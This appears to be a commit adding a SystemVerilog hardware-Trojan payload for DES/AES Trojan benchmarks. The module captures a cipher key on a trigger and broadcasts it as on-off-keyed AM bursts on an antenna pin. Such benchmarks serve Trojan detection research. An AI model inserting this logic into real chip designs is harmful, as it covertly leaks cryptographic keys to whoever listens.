am_keyleak_tx: RTL

Parametrised, fully synchronous successor of the AM key-leak transmitter for the DES/AES Trojan benchmarks. On a rising edge of the trigger it captures a key word and emits it bit by bit as on-off-keyed bursts on a single antenna output. It can repeat the frame a configurable number of times and reports busy/done status. It sits beside the cipher core: it taps the key bus and the Trojan trigger, and drives the leak pin.

---
 rtl/am_keyleak_tx.sv | 135 +++++++++++++
 1 files changed

// File: rtl/am_keyleak_tx.sv
// rtl/am_keyleak_tx.sv - AM on-off-keyed key-leak transmitter with repeat and busy/done status
module am_keyleak_tx #(
    parameter int KEY_W       = 64,
    parameter int SYM_LOG2    = 26,
    parameter int GATE_BIT    = 15,
    parameter int CARRIER_BIT = 4,
    parameter int REPEAT      = 1,
    parameter int MSB_FIRST   = 0
) (
    input  logic             clk,
    input  logic             rst,
    input  logic             Tj_Trig,
    input  logic [KEY_W-1:0] key,
    output logic             Antena,
    output logic             busy,
    output logic             done
);

    localparam int BIT_W = $clog2(KEY_W);
    localparam int FRM_W = $clog2(REPEAT + 1);
    localparam logic [BIT_W-1:0]    BIT_LAST = BIT_W'(KEY_W - 1);
    localparam logic [FRM_W-1:0]    FRM_LAST = FRM_W'(REPEAT - 1);
    localparam logic [SYM_LOG2-1:0] CNT_ONE  = SYM_LOG2'(1);
    localparam logic [BIT_W-1:0]    BIT_ONE  = BIT_W'(1);
    localparam logic [FRM_W-1:0]    FRM_ONE  = FRM_W'(1);

    typedef enum logic [1:0] {
        S_IDLE = 2'd0,
        S_SEND = 2'd1,
        S_DONE = 2'd2
    } state_t;

    state_t state;
    state_t state_nxt;

    logic [SYM_LOG2-1:0] cnt;
    logic [BIT_W-1:0]    bit_cnt;
    logic [FRM_W-1:0]    frm_cnt;
    logic [KEY_W-1:0]    shift_r;
    logic [KEY_W-1:0]    hold_r;
    logic [KEY_W-1:0]    shift_adv;
    logic                trig_q;

    logic       trig_rise;
    logic       sym_end;
    logic       frame_end;
    logic       more_frames;
    logic [2:0] slot;
    logic       cur;
    logic       beep;
    logic       mod;

    assign trig_rise   = Tj_Trig & ~trig_q;
    assign sym_end     = &cnt;
    assign frame_end   = sym_end & (bit_cnt == BIT_LAST);
    assign more_frames = (frm_cnt < FRM_LAST);

    // Slot 0 of every symbol is the sync burst; slot 2 carries the data bit.
    assign slot = cnt[SYM_LOG2-1 -: 3];
    assign cur  = (MSB_FIRST != 0) ? shift_r[KEY_W-1] : shift_r[0];
    assign beep = (slot == 3'd0) | ((slot == 3'd2) & cur);
    assign mod  = beep & cnt[GATE_BIT] & cnt[CARRIER_BIT];

    // Next bit moves into the sampled end of the shift register, zero fill behind it.
    assign shift_adv = (MSB_FIRST != 0) ? {shift_r[KEY_W-2:0], 1'b0}
                                        : {1'b0, shift_r[KEY_W-1:1]};

    assign busy = (state == S_SEND);
    assign done = (state == S_DONE);

    // State register.
    always_ff @(posedge clk) begin
        if (rst) begin
            state <= S_IDLE;
        end else begin
            state <= state_nxt;
        end
    end

    // Next-state: triggers outside IDLE are ignored; DONE always lasts one cycle.
    always_comb begin
        state_nxt = state;
        case (state)
            S_IDLE:  if (trig_rise) state_nxt = S_SEND;
            S_SEND:  if (frame_end && !more_frames) state_nxt = S_DONE;
            S_DONE:  state_nxt = S_IDLE;
            default: state_nxt = S_IDLE;
        endcase
    end

    // Datapath: trigger sampling, symbol/bit/frame counters, key shift and the OOK output.
    always_ff @(posedge clk) begin
        if (rst) begin
            trig_q  <= 1'b0;
            cnt     <= '0;
            bit_cnt <= '0;
            frm_cnt <= '0;
            shift_r <= '0;
            hold_r  <= '0;
            Antena  <= 1'b0;
        end else begin
            trig_q <= Tj_Trig;
            Antena <= (state == S_SEND) & mod;
            case (state)
                S_IDLE: begin
                    if (trig_rise) begin
                        hold_r  <= key;
                        shift_r <= key;
                        cnt     <= '0;
                        bit_cnt <= '0;
                        frm_cnt <= '0;
                    end
                end
                S_SEND: begin
                    cnt <= cnt + CNT_ONE;
                    if (frame_end) begin
                        bit_cnt <= '0;
                        if (more_frames) begin
                            shift_r <= hold_r;
                            frm_cnt <= frm_cnt + FRM_ONE;
                        end else begin
                            shift_r <= shift_adv;
                        end
                    end else if (sym_end) begin
                        bit_cnt <= bit_cnt + BIT_ONE;
                        shift_r <= shift_adv;
                    end
                end
                default: begin
                end
            endcase
        end
    end

endmodule
